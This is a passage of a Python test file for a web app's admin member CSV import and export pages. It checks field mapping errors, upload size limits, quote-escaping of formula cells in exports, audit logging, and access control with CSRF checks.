    data = b"who,address,where\nAna,ana@map.example.org,ARG\n"
    r = post_form(c, {"csrf_token": token, "step": "map", "on_duplicate": "skip"},
                  files={"file": ("m.csv", data, "text/csv")})
    assert r.status_code == 200 and "no column is mapped to name" in r.text
    form = Forms(r.text).with_step("preview")
    form.update({"map_0": "name", "map_1": "name", "map_2": "country"})
    r = post_form(c, form)
    assert r.status_code == 400 and "both mapped to name" in r.text
    # A field the form never offers is refused, naming the column.
    form.update({"map_1": "password"})
    r = post_form(c, form)
    assert r.status_code == 400 and "unknown field for column 2" in r.text
    form.update({"map_1": "email"})
    r = post_form(c, form)
    assert r.status_code == 200 and "<strong>1</strong> to create" in r.text
    # Empty and missing files.
    r = post_form(c, {"csrf_token": token, "step": "map"},
                  files={"file": ("m.csv", b"", "text/csv")})
    assert r.status_code == 400 and "Please choose a CSV file" in r.text
    # Over the server's --max-body (1 MiB by default): refused before it is
    # read, and nothing is stored.
    uploads = scalar(server.db, "SELECT count(*) FROM member_import_uploads")
    big = b"name,email,country\n" + b"Ana,ana@big.example.org,ARG\n" * 40000
    r = post_form(c, {"csrf_token": token, "step": "map"},
                  files={"file": ("m.csv", big, "text/csv")})
    assert r.status_code == 413
    assert scalar(server.db, "SELECT count(*) FROM member_import_uploads") == uploads


def test_admin_downloads(server, tmp_path):
    c = server.login_user(server.member("admin"))
    token = Forms(c.get("/admin/members/import").text).with_step("map")["csrf_token"]
    rows = [HEADER] + [[f, f"dl{i}@downloads.example.org", "ARG"] + [""] * 9
                       for i, f in enumerate(FORMULAS)]
    data = "".join(",".join('"' + v.replace('"', '""') + '"' for v in r) + "\n" for r in rows)
    r = post_form(c, {"csrf_token": token, "step": "map", "on_duplicate": "skip"},
                  files={"file": ("m.csv", data.encode(), "text/csv")})
    r = post_form(c, Forms(r.text).with_step("preview"))
    r = post_form(c, Forms(r.text).with_step("apply"))
    assert c.get(r.headers["Location"]).status_code == 200

    page = c.get("/admin/members/export")
    assert page.status_code == 200 and "/admin/members/export.xlsx" in page.text
    r = c.get("/admin/members/export.csv")
    assert r.status_code == 200
    assert r.headers["Content-Type"].startswith("text/csv")
    assert r.headers["Content-Disposition"].startswith("attachment")
    cells = list(csv.reader(io.StringIO(r.content.decode("utf-8"))))
    assert cells[0] == HEADER
    names = {row[1]: row[0] for row in cells[1:]}
    for i, f in enumerate(FORMULAS):
        assert names[f"dl{i}@downloads.example.org"] == "'" + f
    r = c.get("/admin/members/export.xlsx")
    assert r.status_code == 200
    assert r.headers["Content-Type"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert r.headers["Content-Disposition"].startswith("attachment")
    check_xlsx(r.content)
    audit = query(server.db, "SELECT detail FROM audit_log WHERE action = 'members exported' "
                             "ORDER BY id DESC LIMIT 2")
    assert [a[0].split()[-1] for a in audit] == ["xlsx", "csv"]
    # No temporary file left behind.
    tmp = os.environ.get("TMPDIR") or "/tmp"
    assert not [f for f in os.listdir(tmp) if f.startswith("ratify-export-")]


PAGES = [("GET", "/admin/members/import"), ("POST", "/admin/members/import"),
         ("GET", "/admin/members/import/1"), ("GET", "/admin/members/export"),
         ("GET", "/admin/members/export.csv"), ("GET", "/admin/members/export.xlsx")]


@pytest.mark.parametrize("role", ["coordinator", "member"])
def test_admin_pages_are_forbidden_to_others(server, role):
    user = server.member(role, countries=["ARG"] if role == "coordinator" else ())
    c = server.login_user(user)
    token = c.csrf("/account")
    for method, path in PAGES:
        if method == "GET":
            r = c.get(path)
        else:
            r = c.post(path, files={"csrf_token": (None, token), "step": (None, "map"),
                                    "file": ("m.csv", b"name,email,country\n", "text/csv")})
        assert r.status_code == 403, (role, path, r.status_code)
        assert "ratify-members" not in r.headers.get("Content-Disposition", "")


def test_admin_pages_need_a_login_and_csrf(server):
    anonymous = server.client()
    for method, path in PAGES:
        r = anonymous.get(path) if method == "GET" else anonymous.post(path)
        assert r.status_code in (303, 401, 403), (path, r.status_code)
        if r.status_code == 303:
            assert r.headers["Location"].startswith("/login")
    c = server.login_user(server.member("admin"))
    r = c.post("/admin/members/import",
               files={"step": (None, "map"), "file": ("m.csv", b"name,email,country\n", "text/csv")})
    assert r.status_code == 403
    assert c.get("/admin/members/import/999999").status_code == 404
    assert c.get("/admin/members/import/x").status_code == 404
